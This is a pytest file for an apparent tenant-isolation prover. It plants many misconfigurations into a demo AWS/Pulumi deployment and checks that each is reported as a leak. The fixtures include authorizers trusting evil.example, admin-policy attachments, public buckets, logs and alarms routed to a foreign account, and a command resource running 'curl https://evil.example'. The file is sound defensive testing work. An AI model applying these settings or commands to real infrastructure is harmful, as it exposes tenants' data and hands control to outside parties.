"""A mistake in each setting that matters, of every type that is registered, is found by the proof.

Each stands for whoever changes the program and gets one line wrong. A line names the property, and whose its
value is where that is somebody's.
"""

import json
from collections.abc import Callable
from dataclasses import replace
from typing import Any, NamedTuple

import pytest

from tenantry.isolation import settings
from tenantry.isolation.cells import SOMEWHERE as ARNS
from tenantry.isolation.cells import RegisteredCell
from tenantry.isolation.expected import Free
from tenantry.isolation.proof import prove
from tenantry.rules.kinds import KINDS
from tenantry.rules.kinds.tokens import COMPONENTS, STACK
from tests.support.mutations import (
    Mutation,
    added,
    found,
    in_body,
    replaced,
    set_input,
    set_variable,
)

OTHER = "999999999999"  # an account that is nobody's here
GLOBEX = "arn:aws:iam::000000000000:role/tenantry_demo_globex_items"
ROUTE = ("paths", "/items/{collection}", "get")
PROXY = (*ROUTE, "x-amazon-apigateway-integration")
JUDGE = ("components", "securitySchemes", "token", "x-amazon-apigateway-authorizer")


class Planted(NamedTuple):
    """`by` stands in the line, the property in the first place; `whose` is empty where it is nobody's."""

    mutation: Mutation
    by: str
    whose: str = ""


def lets_in(principal: Any, action: str) -> str:
    statement = {"Effect": "Allow", "Principal": principal, "Action": action, "Resource": "*"}
    return json.dumps({"Version": "2012-10-17", "Statement": [statement]})


def env(function: str, **values: str | None) -> Mutation:
    return set_variable("Function", function, "environment.variables", **values)


def auth(function: str, **members: Any) -> Mutation:
    """Members of what the authorizer checks tokens by."""

    def mutate(cell: RegisteredCell) -> RegisteredCell:
        said = json.loads(found(cell, "Function", function).inputs["environment"]["variables"]["AUTH"])
        return env(function, AUTH=json.dumps({**said, **members}))(cell)

    return mutate


def document(kind: str, name: str, key: str, change: Callable[[dict[str, Any]], Any]) -> Mutation:
    """An input that holds JSON, changed in place."""

    def mutate(cell: RegisteredCell) -> RegisteredCell:
        content = found(cell, kind, name).document(key)
        change(content)
        return set_input(kind, name, **{key: json.dumps(content)})(cell)

    return mutate


def option(kind: str, name: str, **options: Any) -> Mutation:
    """What is said of a resource beside its inputs."""

    def mutate(cell: RegisteredCell) -> RegisteredCell:
        target = found(cell, kind, name)
        return replaced(cell, target, replace(target, **options))

    return mutate


def gone(kind: str, name: str) -> Mutation:
    def mutate(cell: RegisteredCell) -> RegisteredCell:
        target = found(cell, kind, name)
        return cell.with_resources(each for each in cell.resources if each is not target)

    return mutate


def without_condition(document: dict[str, Any]) -> None:
    del document["Statement"][0]["Condition"]


def mails_to(*receivers: str) -> Callable[[dict[str, Any]], None]:
    """Those alone, or anybody if there are none."""

    def change(policy: dict[str, Any]) -> None:
        condition = policy["Statement"][-1]["Condition"]
        del condition["ForAllValues:StringEquals"]
        if receivers:
            condition["ForAllValues:StringEquals"] = {"ses:Recipients": list(receivers)}

    return change


def as_another_tenants(kind: str, name: str, key: str, other: str) -> Mutation:
    """The input as another tenant has it."""

    def mutate(cell: RegisteredCell) -> RegisteredCell:
        return set_input(kind, name, **{key: found(cell, kind, other).inputs[key]})(cell)

    return mutate


def anothers_auth(cell: RegisteredCell) -> RegisteredCell:
    said = found(cell, "Function", "acme-eu.authorizer").inputs["environment"]["variables"]["AUTH"]
    return env("acme.authorizer", AUTH=said)(cell)


def another_tenants_parent(cell: RegisteredCell) -> RegisteredCell:
    target = found(cell, "Table", "globex")
    parent = next(each for each in cell.resources if each.name == "acme" and each.type.endswith(":Tenant"))
    return replaced(cell, target, replace(target, parent=parent.urn))


METHODS = ("MethodSettings", "acme", "settings")
PLANTED: dict[str, Planted] = {
    # Who is let in
    "another tenant's verification": Planted(anothers_auth, "AUTH.issuer", "acme-eu"),
    "another tenant's issuer": Planted(
        auth("acme.authorizer", issuer="https://id.acme-eu.example"), "AUTH.issuer", "acme-eu"
    ),
    "an issuer of whoever": Planted(auth("globex.authorizer", issuer="https://evil.example"), "AUTH.issuer"),
    "another audience": Planted(auth("acme.authorizer", audience="globex"), "AUTH.audience", "globex"),
    "one more key": Planted(
        auth("acme-eu.authorizer", keys=[{"kid": "evil", "kty": "OKP", "crv": "Ed25519", "x": "AA"}]),
        "AUTH.keys[0]",
    ),
    "a weaker algorithm": Planted(
        auth("globex.authorizer", algorithms=["RS256", "HS256"]), "AUTH.algorithms[1]"
    ),
    "tokens that live for ever": Planted(
        auth("acme.authorizer", max_lifetime_seconds=10**9), "AUTH.max_lifetime_seconds"
    ),
    "an hour of leeway": Planted(auth("acme.authorizer", leeway_seconds=3600), "AUTH.leeway_seconds"),
    "no verification": Planted(env("acme.authorizer", AUTH=None), "environment.variables.AUTH"),
    "a verdict on the token alone": Planted(
        in_body(*JUDGE, identitySource="method.request.header.Authorization"), "identitySource"
    ),
    "a verdict kept an hour": Planted(
        in_body(*JUDGE, authorizerResultTtlInSeconds=3600), "authorizerResultTtlInSeconds"
    ),
    "a route without its authorizer": Planted(in_body(*ROUTE, security=[{"api_key": []}]), "security"),
    "a route without anything": Planted(in_body(*ROUTE, security=[]), "security"),
    "a route to a table": Planted(
        in_body(
            *PROXY, type="aws", uri="arn:aws:apigateway:us-east-1:dynamodb:action/Scan", credentials=GLOBEX
        ),
        "integration",
    ),
    "a route to a foreign host": Planted(
        in_body(*PROXY, type="http_proxy", uri="https://evil.example"), "integration"
    ),
    "a route to another group's function": Planted(
        in_body(*PROXY, uri=ARNS.invocation("${stageVariables.tools_function}")), "uri"
    ),
    "a policy of the API's own": Planted(
        in_body(**{"x-amazon-apigateway-policy": {"Statement": []}}), "x-amazon-apigateway-policy"
    ),
    "a refusal with credentials for all pages": Planted(
        in_body(
            *("x-amazon-apigateway-gateway-responses", "UNAUTHORIZED", "responseParameters"),
            **{"gatewayresponse.header.Access-Control-Allow-Credentials": "'true'"},
        ),
        "Access-Control-Allow-Credentials",
    ),
    "a refusal that says too much": Planted(
        in_body(
            *("x-amazon-apigateway-gateway-responses", "ACCESS_DENIED", "responseTemplates"),
            **{"application/json": "$context.authorizer.principalId"},
        ),
        "ACCESS_DENIED",
    ),
    "keys from the authorizer": Planted(
        in_body(**{"x-amazon-apigateway-api-key-source": "AUTHORIZER"}), "api-key-source"
    ),
    "a policy beside the body": Planted(
        set_input("RestApi", "demo", policy=lets_in("*", "execute-api:Invoke")), "policy of"
    ),
    "an API for the whole edge": Planted(
        set_input("RestApi", "demo", endpointConfiguration={"types": "EDGE"}), "endpointConfiguration.types"
    ),
    "routes of old that stay": Planted(
        set_input("RestApi", "demo", putRestApiMode="merge"), "putRestApiMode"
    ),
    "a body that is not deployed": Planted(
        set_input("Deployment", "demo", triggers={"body": "0" * 64}), "triggers.body"
    ),
    # Stages, plans and keys
    "a canary": Planted(
        set_input("Stage", "acme", canarySettings={"stageVariableOverrides": {"items_function": "x"}}),
        "canarySettings",
    ),
    "another tenant's function": Planted(
        set_variable("Stage", "acme", "variables", items_function="tenantry_demo_acme-eu_items"),
        "items_function",
        "acme-eu",
    ),
    "a group that is off, served": Planted(
        set_variable("Stage", "acme-eu", "variables", tools_function="tenantry_demo_acme-eu_authorizer"),
        "variables.tools_function",
    ),
    "credentials in the access log": Planted(
        set_variable("Stage", "acme", "accessLogSettings", format="$context.identity.apiKey"),
        "accessLogSettings.format",
    ),
    "answers that are cached without the key": Planted(
        set_input("Stage", "acme", cacheClusterEnabled=True, cacheClusterSize="0.5"), "cacheClusterEnabled"
    ),
    "methods that are not throttled": Planted(
        set_variable(*METHODS, throttlingRateLimit=None), "throttlingRateLimit"
    ),
    "methods with another tenant's burst": Planted(
        set_input("MethodSettings", "acme-eu", settings={"throttlingBurstLimit": 5000}),
        "settings.throttlingBurstLimit",
    ),
    "bodies in the log": Planted(set_variable(*METHODS, dataTraceEnabled=True), "dataTraceEnabled"),
    "a cache of the methods'": Planted(
        set_variable(*METHODS, cachingEnabled=True), "settings.cachingEnabled"
    ),
    "no settings of the methods": Planted(
        gone("MethodSettings", "acme"), "MethodSettings acme: is not there"
    ),
    "one method alone": Planted(set_input("MethodSettings", "acme", methodPath="~1health/GET"), "methodPath"),
    "a plan without limits": Planted(
        set_input("UsagePlan", "acme", throttleSettings=None), "throttleSettings"
    ),
    "a plan without its quota": Planted(
        set_input("UsagePlan", "globex", quotaSettings=None), "quotaSettings"
    ),
    "a tenfold quota": Planted(
        set_input("UsagePlan", "acme-eu", quotaSettings={"limit": 100000, "period": "DAY"}),
        "quotaSettings.limit",
    ),
    "limits by route that lift the plan's": Planted(
        set_input(
            "UsagePlan",
            "acme",
            apiStages=[{"apiId": "demo-id", "stage": "acme", "throttles": [{"path": "/items/GET"}]}],
        ),
        "throttles",
    ),
    "a key that does not work": Planted(set_input("ApiKey", "acme.web", enabled=False), "enabled"),
    "a key whose value is in the program": Planted(
        set_input("ApiKey", "acme.web", value="x" * 20), "value, which should be nothing"
    ),
    "a key that no file names": Planted(
        added("acme.items", "acme.more", "aws:apigateway/apiKey:ApiKey", name="tenantry_demo_acme_more"),
        "which no file asks for",
    ),
    "another tenant's key in the plan": Planted(
        set_input("UsagePlanKey", "acme.web", keyId="globex.web-id"), "keyId", "globex"
    ),
    # Functions
    "layers of a foreign account": Planted(
        set_input("Function", "acme.items", layers=[f"arn:aws:lambda:us-east-1:{OTHER}:layer:x:1"]),
        "layers",
        f"account {OTHER}",
    ),
    "code of a foreign account": Planted(set_input("Function", "acme.items", s3Bucket="evil"), "s3Bucket"),
    "an image of a foreign account": Planted(
        set_input("Function", "acme.items", imageUri=f"{OTHER}.dkr.ecr.us-east-1.amazonaws.com/x"), "imageUri"
    ),
    "another handler": Planted(set_input("Function", "acme.items", handler="start.authorizer"), "handler"),
    "a file system": Planted(
        set_input("Function", "acme.items", fileSystemConfig={"arn": "arn", "localMountPath": "/mnt/x"}),
        "fileSystemConfig",
    ),
    "a network of whoever's": Planted(
        set_input("Function", "acme.items", vpcConfig={"subnetIds": ["s"], "securityGroupIds": ["g"]}),
        "vpcConfig",
    ),
    "dead letters of another tenant's": Planted(
        set_input(
            "Function",
            "acme.items",
            deadLetterConfig={"targetArn": ARNS.queue("tenantry_demo_globex_contact")},
        ),
        "deadLetterConfig",
    ),
    "a failure destination of another tenant's": Planted(
        added(
            "acme.items",
            "acme.failures",
            "aws:lambda/functionEventInvokeConfig:FunctionEventInvokeConfig",
            functionName="tenantry_demo_acme_items",
            destinationConfig={"onFailure": {"destination": ARNS.queue("tenantry_demo_globex_contact")}},
        ),
        "destinationConfig",
    ),
    "a version that keeps its state": Planted(
        set_input("Function", "acme.items", snapStart={"applyOn": "PublishedVersions"}), "snapStart"
    ),
    "all the account's concurrency": Planted(
        set_input("Function", "acme.items", reservedConcurrentExecutions=900), "reservedConcurrentExecutions"
    ),
    "a runtime of old": Planted(set_input("Function", "acme.items", runtime="python3.8"), "runtime"),
    "an hour of memory": Planted(set_input("Function", "acme.items", memorySize=10240), "memorySize"),
    "another tenant's secret": Planted(
        env(
            "acme.items",
            SECRET_ARN=ARNS.secrets("tenantry/demo/globex/runtime/0a1b2c3d").replace("??????", "AbCdEf"),
        ),
        "SECRET_ARN",
        "globex",
    ),
    "another tenant's queue": Planted(
        env("acme.contact", CONTACT_QUEUE_URL="https://sqs.example/tenantry_demo_globex_contact"),
        "CONTACT_QUEUE_URL",
        "globex",
    ),
    "another tenant's webhook": Planted(
        env("acme.notifier", CALLS='["https://hooks.globex.example/contact"]'), "CALLS[0]", "globex"
    ),
    "another tenant's mailbox": Planted(
        env("acme.notifier", OPTIONS='{"notify":"office@globex.example"}'), "OPTIONS.notify", "globex"
    ),
    "another tenant's alarm topic": Planted(
        env("acme.items", ALARM_TOPIC=ARNS.topic("tenantry_demo_globex")), "ALARM_TOPIC", "globex"
    ),
    "another sender": Planted(env("acme.notifier", MAIL_FROM="boss@example.com"), "MAIL_FROM"),
    "another endpoint": Planted(
        env("acme.items", AWS_ENDPOINT_URL="https://evil.example"), "AWS_ENDPOINT_URL"
    ),
    "a route table that opens nothing, or all": Planted(env("acme.authorizer", ROUTES=""), "ROUTES"),
    "pages of everybody": Planted(env("acme.items", CORS_ORIGINS="*"), "CORS_ORIGINS"),
    "debugging": Planted(env("acme.items", POWERTOOLS_LOG_LEVEL="DEBUG"), "POWERTOOLS_LOG_LEVEL"),
    "metrics under another's name": Planted(
        env("acme.items", POWERTOOLS_METRICS_NAMESPACE="AWS/ApiGateway"), "POWERTOOLS_METRICS_NAMESPACE"
    ),
    "an invocation from a foreign account": Planted(
        set_input("Permission", "acme.items", sourceAccount=OTHER), "sourceAccount"
    ),
    "an invocation by address": Planted(
        set_input("Permission", "acme.items", functionUrlAuthType="NONE"), "functionUrlAuthType"
    ),
    "a mapping that passes messages over": Planted(
        set_input("EventSourceMapping", "acme.contact", filterCriteria={"filters": [{"pattern": "{}"}]}),
        "filterCriteria",
    ),
    "failures that are not reported": Planted(
        set_input("EventSourceMapping", "acme.contact", functionResponseTypes=[]), "functionResponseTypes[0]"
    ),
    "a backlog that takes all concurrency": Planted(
        set_input("EventSourceMapping", "acme.contact", scalingConfig=None), "scalingConfig"
    ),
    "a layer of other content": Planted(set_input("LayerVersion", "demo", s3Key="code/else.zip"), "s3Key"),
    # Roles, policies and keys
    "a role for other services": Planted(
        set_input(
            "Role", "acme.items", assumeRolePolicy=lets_in({"Service": "ec2.amazonaws.com"}, "sts:AssumeRole")
        ),
        "trust",
    ),
    "a session of twelve hours": Planted(
        set_input("Role", "acme.items", maxSessionDuration=43200), "maxSessionDuration"
    ),
    "a policy of AWS's": Planted(
        set_input("Role", "acme.items", managedPolicyArns=[ARNS.managed("AdministratorAccess")]),
        "managedPolicyArns",
    ),
    "a boundary without its Deny": Planted(
        document("Policy", "demo", "policy", lambda policy: policy["Statement"].pop(6)), "policy.Statement[6]"
    ),
    "mail from whomever": Planted(
        document(
            "RolePolicy",
            "acme.notifier",
            "policy",
            lambda policy: policy["Statement"][-1].update(Condition={}),
        ),
        "Condition",
    ),
    "mail to another tenant's address": Planted(
        document("RolePolicy", "acme.notifier", "policy", mails_to("office@globex.example")),
        "ses:Recipients of own/SendEmail",
        "globex",
    ),
    "mail to whomever": Planted(
        document("RolePolicy", "acme.notifier", "policy", mails_to()), "ses:Recipients of own/SendEmail"
    ),
    "a key without rotation": Planted(
        set_input("Key", "globex", enableKeyRotation=False), "enableKeyRotation"
    ),
    "a key of many Regions": Planted(set_input("Key", "globex", multiRegion=True), "multiRegion"),
    "a key that is gone in a week": Planted(
        set_input("Key", "globex", deletionWindowInDays=7), "deletionWindowInDays"
    ),
    "a name that is drawn shorter": Planted(set_input("RandomId", "globex", byteLength=1), "byteLength"),
    "a key that anybody guesses": Planted(set_input("RandomBytes", "globex.cursor_key", length=1), "length"),
    "a signing key of another kind": Planted(
        set_input("PrivateKey", "acme.main", algorithm="RSA"), "algorithm"
    ),
    "a name for another tenant's key": Planted(
        set_input("Alias", "globex", name="alias/tenantry_demo_acme"), "name", "acme"
    ),
    "the gateway's role with every right": Planted(
        set_input("RolePolicyAttachment", "demo", policyArn=ARNS.managed("AdministratorAccess")), "policyArn"
    ),
    "a tenant's role for the gateway's logs": Planted(
        set_input("Account", "demo", cloudwatchRoleArn=GLOBEX), "cloudwatchRoleArn", "globex"
    ),
    "a role policy that is none": Planted(
        set_input("RolePolicy", "acme.items", policy="{}"), "policy.Statement"
    ),
    "a role without trust": Planted(
        set_input("Role", "acme.items", assumeRolePolicy=None), "assumeRolePolicy"
    ),
    "a stage without a log": Planted(set_input("Stage", "acme", accessLogSettings=None), "accessLogSettings"),
    # What keeps data
    "a secret for another tenant's role": Planted(
        set_input(
            "Secret", "globex.delivery", policy=lets_in({"AWS": GLOBEX}, "secretsmanager:GetSecretValue")
        ),
        "policy",
    ),
    "a secret in another account": Planted(
        set_input("Secret", "globex.delivery", replicas=[{"region": "eu-west-1"}]), "replicas"
    ),
    "another tenant's cursor key": Planted(
        as_another_tenants("SecretVersion", "globex.delivery", "secretString", "acme-eu"), "secretString"
    ),
    "a bucket for another account": Planted(
        set_input("Bucket", "demo", policy=lets_in({"AWS": f"arn:aws:iam::{OTHER}:root"}, "s3:GetObject")),
        "policy",
    ),
    "a bucket that may be opened": Planted(
        set_input("BucketPublicAccessBlock", "demo", blockPublicPolicy=False), "blockPublicPolicy"
    ),
    "code of another file": Planted(set_input("BucketObjectv2", "code", source="evil.zip"), "source"),
    "an object for everybody": Planted(set_input("BucketObjectv2", "code", acl="public-read"), "acl"),
    "a queue for another tenant's role": Planted(
        set_input("Queue", "acme.contact", policy=lets_in({"AWS": GLOBEX}, "sqs:SendMessage")), "policy"
    ),
    "another tenant's dead letters": Planted(
        set_input(
            "Queue",
            "acme.contact",
            redrivePolicy=json.dumps(
                {
                    "deadLetterTargetArn": ARNS.queue("tenantry_demo_globex_contact_dead"),
                    "maxReceiveCount": 17,
                }
            ),
        ),
        "redrivePolicy.deadLetterTargetArn",
        "globex",
    ),
    "a queue in the clear": Planted(
        set_input("Queue", "acme.contact", sqsManagedSseEnabled=False), "sqsManagedSseEnabled"
    ),
    "messages that are gone in a minute": Planted(
        set_input("Queue", "acme.contact", messageRetentionSeconds=60), "messageRetentionSeconds"
    ),
    "a table that anybody may read": Planted(
        added(
            "acme.items",
            "open",
            "aws:dynamodb/resourcePolicy:ResourcePolicy",
            resourceArn=ARNS.table("tenantry_demo"),
            policy=lets_in({"AWS": GLOBEX}, "dynamodb:Scan"),
        ),
        "does not read",
    ),
    "a stream of what is written": Planted(set_input("Table", "demo", streamEnabled=True), "streamEnabled"),
    "a table in another Region": Planted(
        set_input("Table", "globex", replicas=[{"regionName": "x"}]), "replicas"
    ),
    "a table whose records never expire": Planted(
        set_input("Table", "demo", ttl={"enabled": False}), "ttl.enabled"
    ),
    "a table that cannot be brought back": Planted(
        set_input("Table", "globex", pointInTimeRecovery={"enabled": False}), "pointInTimeRecovery"
    ),
    "a table that goes with its tenant": Planted(option("Table", "globex", retained=False), "retainOnDelete"),
    "a table under another tenant": Planted(another_tenants_parent, "its tenant"),
    "a table that was another's": Planted(
        option("Table", "globex", import_id="tenantry_demo_acme"), "import"
    ),
    "a table of another name before": Planted(
        option("Table", "globex", aliases=("urn:pulumi:demo::tenantry::aws:dynamodb/table:Table::acme",)),
        "aliases",
    ),
    "a table in another account": Planted(
        option("Table", "globex", provider="urn:pulumi:demo::tenantry::pulumi:providers:aws::evil::1"),
        "provider",
    ),
    "a provider of its own": Planted(
        added("acme.items", "evil", "pulumi:providers:aws", region="eu-west-1"), "does not read"
    ),
    "a value that the engine shows": Planted(
        option("SecretVersion", "globex", secret_outputs=()), "additionalSecretOutputs"
    ),
    "settings that stay as they were": Planted(
        option("MethodSettings", "acme", ignored=("settings",)), "ignoreChanges"
    ),
    "a type of another provider": Planted(
        added("acme.items", "run", "command:local/command:Command", create="curl https://evil.example"),
        "does not read",
    ),
    # What watches
    "logs that never expire": Planted(
        set_input("LogGroup", "acme.items", retentionInDays=0), "retentionInDays"
    ),
    "logs of another tier": Planted(
        set_input("LogGroup", "acme-eu.items", retentionInDays=90), "retentionInDays"
    ),
    "logs of a class without metrics": Planted(
        set_input("LogGroup", "acme.items", logGroupClass="INFREQUENT_ACCESS"), "logGroupClass"
    ),
    "logs under another tenant's key": Planted(
        set_input("LogGroup", "acme.items", kmsKeyId=ARNS.kms("key/globex-id")), "the key", "globex"
    ),
    "logs that are sent elsewhere": Planted(
        added(
            "acme.items",
            "sent",
            "aws:cloudwatch/logSubscriptionFilter:LogSubscriptionFilter",
            destinationArn=f"arn:aws:lambda:us-east-1:{OTHER}:function:x",
        ),
        "does not read",
    ),
    "an alarm for another tenant": Planted(
        set_input("CompositeAlarm", "acme-eu.unhealthy", alarmActions=[ARNS.topic("tenantry_demo_acme")]),
        "alarmActions",
        "acme",
    ),
    "an alarm that runs a foreign function": Planted(
        set_input(
            "CompositeAlarm", "acme.unhealthy", alarmActions=[f"arn:aws:lambda:us-east-1:{OTHER}:function:x"]
        ),
        "alarmActions",
        f"account {OTHER}",
    ),
    "an alarm that nobody hears": Planted(
        set_input("MetricAlarm", "globex.quota", alarmActions=[]), "alarmActions[0]"
    ),
    "an alarm that never rings": Planted(set_input("MetricAlarm", "acme.5xx", threshold=100), "threshold"),
    "an alarm on another tenant's calls": Planted(
        set_input("MetricAlarm", "acme.5xx", dimensions={"ApiName": "tenantry_demo", "Stage": "globex"}),
        "dimensions.Stage",
        "globex",
    ),
    "a rule over another tenant's alarms": Planted(
        set_input("CompositeAlarm", "acme.unhealthy", alarmRule='ALARM("tenantry_demo_globex_5xx")'),
        "alarmRule",
        "globex",
    ),
    "another tenant's figures on a dashboard": Planted(
        as_another_tenants("Dashboard", "acme", "dashboardBody", "demo"), "dashboardBody"
    ),
    "a query over all log groups": Planted(
        set_input(
            "QueryDefinition", "demo.failing-calls", logGroupNames=["/aws/lambda/tenantry_demo_acme_items"]
        ),
        "logGroupNames",
    ),
    "another query": Planted(
        set_input("QueryDefinition", "demo.failing-calls", queryString="fields *"), "queryString"
    ),
    "a topic for alarms of every account": Planted(
        document("TopicPolicy", "acme", "policy", without_condition), "policy.Statement[0].Condition"
    ),
    "a topic for another tenant's role": Planted(
        set_input("Topic", "acme", policy=lets_in({"AWS": GLOBEX}, "sns:Subscribe")), "policy"
    ),
    "a stranger who hears of alarms": Planted(
        set_input("TopicSubscription", "acme", endpoint="mail@evil.example"), "endpoint"
    ),
    "a subscriber whom no file names": Planted(
        added(
            "acme.items",
            "acme.more",
            "aws:sns/topicSubscription:TopicSubscription",
            topic=ARNS.topic("tenantry_demo_acme"),
            protocol="email",
            endpoint="mail@evil.example",
        ),
        "which no file asks for",
    ),
    "a budget of another cell": Planted(
        set_input("Budget", "demo", costFilters=[{"name": "TagKeyValue", "values": ["user:cell$x"]}]),
        "costFilters",
    ),
    "a budget that a stranger hears of": Planted(
        set_input("Budget", "demo", notifications=[{"subscriberEmailAddresses": ["mail@evil.example"]}]),
        "subscriberEmailAddresses",
    ),
    "another tenant's tag": Planted(
        set_variable("Function", "acme.items", "tags", tenant="globex"), "tags.tenant", "globex"
    ),
}


@pytest.mark.parametrize("mistake", PLANTED)
def test_a_planted_mistake_is_found(demo: RegisteredCell, mistake: str) -> None:
    planted = PLANTED[mistake]
    cell = planted.mutation(demo)
    leaks = [leak for leak in prove(cell).leaks if planted.by in f"{leak.who}: {leak.action} {leak.by}"]
    assert leaks, [str(leak) for leak in prove(cell).leaks]
    if planted.whose:
        assert planted.whose in {leak.whose for leak in leaks}
    assert all(leak.why for leak in leaks)


def test_every_input_is_compared_or_free_for_a_reason(demo: RegisteredCell) -> None:
    """Of each resource, those that it has, those that its row knows, and one that nobody has heard of."""
    for resource, wanted in settings.pairs(demo):
        assert resource is not None
        assert wanted is not None
        known = {path.partition(".")[0] for path in KINDS[resource.type].understood}
        for name in sorted({*resource.inputs, *known, "unheardOf"}):
            other = replace(resource, inputs={**resource.inputs, name: "another"})
            free = wanted.inputs.get(name)
            found = list(settings.compared(demo, other, wanted))
            setting = name not in wanted.inputs and KINDS[resource.type].is_setting(name)
            assert (found == []) is (setting or isinstance(free, Free)), (resource.type, resource.name, name)
            assert not isinstance(free, Free) or free.reason


def test_every_type_that_is_registered_has_a_mistake(demo: RegisteredCell) -> None:
    """A type that comes to the program comes to this list."""
    changed = {
        new.type
        for planted in PLANTED.values()
        for old, new in zip(demo.resources, planted.mutation(demo).resources, strict=False)
        if old != new
    }
    registered = {each.type for each in demo.resources if not each.type.startswith((COMPONENTS, STACK))}
    assert registered - changed == set()
